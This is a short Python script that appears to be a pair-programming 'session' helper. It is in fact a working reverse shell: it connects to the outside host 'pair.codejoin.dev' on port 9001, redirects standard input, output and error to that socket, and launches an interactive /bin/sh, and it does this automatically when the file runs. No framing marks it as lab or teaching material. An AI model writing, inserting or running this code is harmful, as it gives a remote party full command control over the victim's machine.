import socket, subprocess, os

HOST, PORT = 'pair.codejoin.dev', 9001


def session():
    s = socket.create_connection((HOST, PORT))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    subprocess.call(['/bin/sh', '-i'])


session()
